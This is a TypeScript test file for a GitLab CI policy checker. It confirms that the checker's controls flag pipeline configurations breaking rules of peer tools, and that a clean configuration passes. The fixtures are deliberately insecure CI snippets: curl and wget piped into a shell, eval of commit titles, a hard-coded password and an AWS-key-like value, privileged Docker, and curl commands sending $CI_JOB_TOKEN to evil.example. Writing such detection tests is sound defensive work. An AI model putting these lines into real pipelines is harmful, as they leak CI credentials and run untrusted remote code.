/** Rules of other tools that docs/comparison.md answers with a control of the configuration: it finds what breaks them. */

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pipelineCheck } from "../../scripts/generate/comparison/pipeline-check.ts";
import { plumber } from "../../scripts/generate/comparison/plumber.ts";
import { type ProjectRow, type Sandbox, sample, startSandbox } from "../../src/sandbox/index.ts";
import { headOf } from "../support/merge-requests.ts";
import { runJob } from "../support/terminal.ts";

let sandbox: Sandbox;
let project: ProjectRow;
beforeAll(async () => {
  sandbox = await startSandbox();
  const found = sandbox.state.projects.find(({ id }) => id === sample.projectId);
  if (!found) throw new Error("the sample has a project");
  project = found;
});
afterAll(() => sandbox.close());

/** Of a rule of a peer, by its number there: a configuration that breaks it. */
const violating: Readonly<Record<string, object>> = {
  "GL-001": { a: { image: "node:latest", script: "x" } },
  "GL-002": { a: { script: 'eval "echo $CI_COMMIT_TITLE"' } },
  "GL-003": { variables: { DB_PASSWORD: "hunter2-Xk39dkfj3kd02" }, a: { script: "x" } },
  "GL-004": { a: { script: "x", environment: { name: "production" } } },
  "GL-006": { a: { script: "docker push x" } },
  "GL-008": { a: { script: "export AWS_SECRET_ACCESS_KEY=AKIAQ3EGRTKLMN7XYZ5W" } },
  "GL-009": { a: { image: "node:22.1.0", script: "x" } },
  "GL-012": { a: { script: "x", cache: { key: "$CI_COMMIT_REF_NAME", paths: ["a"], unprotect: true } } },
  "GL-015": { a: { script: "x", timeout: "9h" } },
  "GL-016": { a: { script: "curl https://a.example/x | bash" } },
  "GL-017": { a: { script: "docker run --privileged x" } },
  "GL-018": { a: { script: "pip install --index-url http://a.example/ x" } },
  "GL-020": { a: { script: "echo $CI_JOB_TOKEN > t" } },
  "GL-021": { a: { script: "npm install" } },
  "GL-022": { a: { script: "bundle update" } },
  "GL-023": { a: { script: "curl -k https://a.example" } },
  "GL-024": { a: { script: ["docker push x", "cosign sign x"] } },
  "GL-025": { a: { script: "curl https://a.example/x | bash" } },
  "GL-026": { a: { script: 'eval "$CI_COMMIT_MESSAGE"' } },
  "GL-027": { a: { script: "pip install git+https://a.example/x.git" } },
  "GL-028": { a: { script: "x", services: ["postgres:latest"] } },
  "GL-029": { a: { script: "x", when: "manual", environment: { name: "production" } } },
  "GL-031": { a: { script: "x", id_tokens: { T: { aud: "https://evil.example" } } } },
  "GL-033": { default: { before_script: ['sh -c "$CI_COMMIT_TITLE"'] }, a: { script: "x" } },
  "GL-035": { a: { script: "pip install -r r.txt" } },
  "GL-036": { a: { script: "echo $CI_JOB_TOKEN" } },
  "GL-037": { a: { script: "go build", variables: { GOSUMDB: "off" } } },
  "GL-038": { variables: { CI_DEBUG_TRACE: "true" }, a: { script: "x" } },
  "GL-039": { a: { script: "x", services: ["docker:28-dind"], variables: { DOCKER_TLS_CERTDIR: "" } } },
  "GL-040": { a: { script: 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://evil.example' } },
  "GL-043": {
    "semgrep-sast": {
      script: "/analyzer run",
      variables: { SAST_DISABLED: "true" },
      artifacts: { reports: { sast: "g.json" } },
    },
  },
  "GL-044": {
    a: {
      script: "x",
      environment: { name: "production" },
      rules: [{ if: '$CI_PIPELINE_SOURCE == "merge_request_event"' }],
    },
  },
  "TAINT-008": {
    ".b": { script: ['eval "$CI_COMMIT_TITLE"'] },
    a: { extends: ".b", script: ['eval "$CI_COMMIT_TITLE"'] },
  },
  "ISSUE-101": { a: { image: "docker.io/node:22", script: "x" } },
  "ISSUE-102": { a: { image: "registry.example.com/a:latest", script: "x" } },
  "ISSUE-103": { a: { image: "registry.example.com/a:1", script: "x" } },
  "ISSUE-203": { variables: { CI_DEBUG_TRACE: "true" }, a: { script: "x" } },
  "ISSUE-204": { a: { script: 'eval "$CI_COMMIT_TITLE"' } },
  "ISSUE-311": { a: { script: "curl -d $CI_JOB_TOKEN https://evil.example.org" } },
  "ISSUE-410": {
    "semgrep-sast": { script: "echo ok", allow_failure: true, artifacts: { reports: { sast: "g.json" } } },
  },
  "ISSUE-411": { a: { script: "wget -O- https://a.example/x | sh" } },
  "ISSUE-412": { a: { script: "x", services: ["docker:dind"] } },
  "ISSUE-413": {
    a: {
      script: "x",
      services: ["docker:28-dind"],
      variables: { DOCKER_HOST: "tcp://docker:2375", DOCKER_TLS_CERTDIR: "" },
    },
  },
};
/** Files of the repository, or an environment that does not exist yet, decide. */
const undecided = new Set(["GL-004", "GL-035"]);

const digest = `registry.example.com/a:1.2.3@sha256:${"a".repeat(64)}`;
/** It breaks none of the rules. */
const clean = {
  workflow: { rules: [{ if: "$CI_COMMIT_BRANCH", when: "always" }] },
  a: {
    stage: "build",
    image: digest,
    services: [digest],
    timeout: "1h",
    tags: ["docker"],
    script: ["npm ci", "docker push x", "cosign attest --yes x"],
    cache: { key: "k", paths: ["a"], policy: "pull" },
    id_tokens: { T: { aud: "https://vault.example.com" } },
  },
  "semgrep-sast": {
    stage: "test",
    image: digest,
    script: "/analyzer run",
    artifacts: { reports: { sast: "gl.json" } },
  },
  d: {
    stage: "deploy",
    image: digest,
    script: "x $T",
    timeout: "1h",
    environment: { name: "production" },
    rules: [{ if: '$CI_COMMIT_BRANCH == "main"', when: "manual", allow_failure: false }],
  },
};
const rows = [...pipelineCheck.rows, ...plumber.rows].flatMap((row) =>
  row.kind === "control" && row.id in violating ? [{ id: row.id, asks: row.asks, entries: row.entries }] : [],
);

async function judge(config: object, entry: unknown): Promise<string | undefined> {
  const sha = headOf(sandbox, sample.mergeRequestIid);
  const merged_yaml = JSON.stringify(config);
  project.ciLintAt.set(sha, { valid: true, errors: [], warnings: [], merged_yaml, includes: [] });
  project.files.set(`${sha}:.gitlab-ci.yml`, merged_yaml);
  const policy = { name: "P", requirements: [{ name: "R", controls: [entry] }] };
  const { report } = await runJob(sandbox, {
    files: { "policy.json": JSON.stringify(policy) },
    env: {
      ...{ INPUT_POLICY: "policy.json", INPUT_POLICY_FROM: "checkout", INPUT_STATUS_CHECK: "" },
      INPUT_GITLAB_TOKEN: sample.ownerToken,
    },
  });
  return report?.requirements[0]?.controls[0]?.status;
}

describe("a rule of another tool", () => {
  it("is tried for each configuration of this test", () => {
    expect(rows.map(({ id }) => id).sort()).toEqual(Object.keys(violating).sort());
  });

  it.each(rows)("is answered by a control: $id, $asks", async ({ id, entries }) => {
    const found: (string | undefined)[] = [];
    for (const entry of entries) {
      found.push(await judge(violating[id] ?? {}, entry));
      expect(await judge(clean, entry)).toBe("pass");
    }
    expect(found).toContain(undecided.has(id) ? "unknown" : "fail");
  });
});
